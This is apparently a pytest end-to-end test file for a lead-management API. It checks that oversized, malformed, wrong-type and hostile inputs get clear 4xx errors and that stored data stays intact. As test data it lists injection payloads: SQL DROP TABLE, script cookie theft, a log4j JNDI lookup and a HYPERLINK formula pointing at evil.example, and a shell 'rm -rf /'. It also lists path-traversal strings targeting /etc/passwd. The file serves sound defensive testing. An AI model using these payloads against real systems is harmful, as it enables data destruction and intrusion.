"""Hostile and broken input through the local runtime: each is a clear 4xx (or a clear per-row or per-job error),
never a 500, and nothing already stored is lost or changed."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from typing import Any

import httpx
import pytest

from leadpipe_local.client import ApiClient
from leadpipe_local.runtime import LocalRuntime
from tests.e2e.conftest import csv_for


def call(runtime: LocalRuntime, method: str, path: str, **kwargs: Any) -> httpx.Response:
    kwargs["headers"] = runtime.auth_headers() | kwargs.get("headers", {})
    return httpx.request(method, runtime.api_url + path, timeout=60, **kwargs)


def assert_clear_4xx(response: httpx.Response, status: int | set[int], code: str | None = None) -> dict[str, Any]:
    expected = {status} if isinstance(status, int) else status
    assert response.status_code in expected, response.text[:500]
    error = response.json()["error"]
    assert error["message"] and error["code"], error
    if code is not None:
        assert error["code"] == code, error
    return error  # type: ignore[no-any-return]


def test_oversized_bodies_are_refused_whole(runtime: LocalRuntime, api: ApiClient, domain: str) -> None:
    jobs_before = {j["job_id"] for j in api.jobs(limit=100)}
    big = csv_for(domain, 10) + b"x" * (5 * 1024 * 1024 + 1)
    error = assert_clear_4xx(
        call(runtime, "POST", "/imports?filename=big.csv", content=big, headers={"content-type": "text/csv"}),
        413,
        "body_too_large",
    )
    assert "/imports/uploads" in error["message"]  # says what to do instead
    # above API Gateway's own 10 MB limit the gateway answers, as AWS does
    huge = json.dumps({"emails": ["a@b.co"] * 800_000}).encode()
    assert (
        call(runtime, "POST", "/enrich", content=huge, headers={"content-type": "application/json"}).status_code == 413
    )
    # within the limits but too many items: the validator says which field and why
    many = {"emails": [f"p{i}@{domain}" for i in range(5000)]}
    error = assert_clear_4xx(call(runtime, "POST", "/enrich", json=many), 400, "validation_error")
    assert any("emails" in d["location"] for d in error["details"])
    assert {j["job_id"] for j in api.jobs(limit=100)} == jobs_before  # no job was started by any of them
    assert api.contacts(domain=domain)["items"] == []


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/enrich", b'{"emails": ["a@b.co"'),
        ("POST", "/sync", b"{'emails': ['single quotes']}"),
        ("PUT", "/settings/sync", b'{"options": }'),
        ("POST", "/imports", b'{"source": "hubspot",'),
        ("POST", "/keys", b"\xff\xfe not utf-8"),
        ("POST", "/deals/enrichment", b"[1, 2, 3]"),
        ("POST", "/imports/uploads", b"null"),
    ],
)
def test_malformed_json_is_a_clear_400(runtime: LocalRuntime, method: str, path: str, body: bytes) -> None:
    response = call(runtime, method, path, content=body, headers={"content-type": "application/json"})
    assert_clear_4xx(response, {400, 422})


@pytest.mark.parametrize(
    ("method", "path", "content_type", "body", "status"),
    [
        ("POST", "/imports", "application/pdf", b"%PDF-1.7 ...", 415),
        ("POST", "/imports", "image/png", b"\x89PNG\r\n\x1a\n", 415),
        ("POST", "/imports", "text/csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00binary", 400),  # says CSV, is not
        ("POST", "/enrich", "text/csv", b"email\na@b.co\n", 415),
        ("POST", "/sync", "application/x-www-form-urlencoded", b"emails=a%40b.co", 415),
        ("PUT", "/settings/sync", "text/plain", b'{"options": {}}', 415),
        ("POST", "/keys", "application/json", b"\xff\xfe\x00n\x00o", 400),
    ],
)
def test_wrong_content_types_are_refused(
    runtime: LocalRuntime, method: str, path: str, content_type: str, body: bytes, status: int
) -> None:
    response = call(runtime, method, path, content=body, headers={"content-type": content_type})
    assert_clear_4xx(response, status)


HOSTILE = [
    ("Robert'); DROP TABLE contacts;--", "SQL"),
    ("<script>alert(document.cookie)</script>", "HTML"),
    ("${jndi:ldap://evil.example/a}", "log4j"),
    ("{{7*7}} {% raw %}", "template"),
    ('=HYPERLINK("http://evil.example","click")', "formula"),
    ("Zoë 山田 👩‍💻 \u202eevil", "unicode"),
    ('"; rm -rf / #', "shell"),
    ("' OR '1'='1", "quote"),
]


def test_injection_looking_and_unicode_values_are_stored_verbatim(api: ApiClient, domain: str) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Email", "First Name", "Company", "Job Title", "Notes"])
    for i, (value, _) in enumerate(HOSTILE):
        writer.writerow([f"h{i}@{domain}", value, value, value, value])
    writer.writerow([f"o'brien+tag@{domain}", "Conan", "Quote Co", "CEO", ""])
    writer.writerow(["<script>@evil", "Bad", "", "", ""])  # not an email: a row error, the others still import
    job = api.wait_job(api.import_csv(out.getvalue().encode(), "hostile.csv")["job_id"], timeout=60)
    assert job["counts"]["valid"] == len(HOSTILE) + 1 and job["counts"]["invalid"] == 1
    assert job["errors"][0]["field"] == "email" and job["errors"][0]["row"] == len(HOSTILE) + 3
    for i, (value, kind) in enumerate(HOSTILE):
        contact = api.contact(f"h{i}@{domain}")
        assert contact["first_name"] == value.strip(), kind
        assert contact["title"] == value.strip(), kind
        assert contact["custom"]["notes"] == value.strip(), kind
    assert api.contact(f"O'Brien+tag@{domain}")["first_name"] == "Conan"


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/contacts?domain=%27%20OR%201%3D1", 400),
        ("/contacts?limit=-1", 400),
        ("/contacts?limit=1e9", 400),
        ("/contacts?status=pwned", 400),
        ("/contacts?cursor=not-a-cursor", 400),
        ("/contacts?tag=" + "x" * 500, 400),
        ("/contacts/%00", 400),
        ("/contacts/" + "a" * 300 + "@b.co", 400),
        ("/contacts/..%2F..%2Fetc%2Fpasswd", 400),
        ("/imports/..%2F..%2Fetc%2Fpasswd", {400, 404}),
        ("/imports/%27%3B--", {400, 404}),
        ("/imports?limit=abc", 400),
    ],
)
def test_hostile_paths_and_queries_are_clear_4xx(runtime: LocalRuntime, path: str, status: int | set[int]) -> None:
    assert_clear_4xx(call(runtime, "GET", path), status)


def test_upload_filenames_cannot_escape_their_folder(runtime: LocalRuntime, api: ApiClient) -> None:
    for name in ("../../etc/passwd", "..\\..\\boot.ini", "a/../../b.csv", "\x00evil.csv", "..", "   "):
        response = call(runtime, "POST", "/imports/uploads", json={"filename": name})
        if response.status_code == 201:
            key = response.json()["upload"]["key"]
            assert key.startswith("incoming/uploads/default/") and ".." not in key.split("/"), key
            assert "\x00" not in key
        else:
            assert_clear_4xx(response, 400)


def _wait_job_for_key(api: ApiClient, filename: str, timeout: float = 30) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for job in api.jobs(limit=100):
            if job["filename"] == filename and job["status"] not in {"queued", "running"}:
                return job
        time.sleep(0.3)
    raise AssertionError(f"no finished job for {filename}")


def test_s3_drops_with_dot_dot_in_the_key_are_refused_visibly(runtime: LocalRuntime, api: ApiClient) -> None:
    assert runtime.provisioned is not None
    bucket = runtime.provisioned.ref("UploadsBucket")
    s3 = runtime.client("s3")
    name = f"evil-{uuid.uuid4().hex[:6]}.csv"
    s3.put_object(Bucket=bucket, Key=f"incoming/../{name}", Body=b"email\nx@evil.example\n")
    job = _wait_job_for_key(api, name)
    assert job["status"] == "failed" and job["error"]["code"] == "unsafe_key", job
    assert ".." in job["error"]["message"]
    with pytest.raises(Exception, match="404"):
        api.contact("x@evil.example")


def test_s3_drops_under_a_workspace_folder_import_into_that_workspace(runtime: LocalRuntime, domain: str) -> None:
    assert runtime.provisioned is not None
    s3 = runtime.client("s3")
    name = f"ws-drop-{uuid.uuid4().hex[:6]}.csv"
    s3.put_object(
        Bucket=runtime.provisioned.ref("UploadsBucket"),
        Key=f"incoming/workspaces/drop-ws/{name}",
        Body=csv_for(domain, 3),
    )
    with runtime.api_client("drop-ws") as owner, runtime.api_client("default") as other:
        job = _wait_job_for_key(owner, name)
        assert job["status"] == "completed" and job["counts"]["imported"] == 3
        assert len(owner.contacts(domain=domain)["items"]) == 3
        assert other.contacts(domain=domain)["items"] == []
        assert name not in [j["filename"] for j in other.jobs(limit=100)]
